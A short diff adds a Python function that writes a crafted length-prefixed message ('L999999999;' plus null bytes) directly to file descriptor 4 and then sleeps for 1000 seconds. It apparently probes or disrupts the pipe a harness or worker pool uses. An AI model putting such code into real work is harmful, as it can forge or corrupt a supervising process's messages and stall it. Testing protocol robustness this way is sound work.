@@ -1,0 +1,6 @@
+import os
+def f(x):
+    data = b"L999999999;" + b"\x00" * 50
+    os.write(4, len(data).to_bytes(4, "little") + data)
+    import time
+    time.sleep(1000)
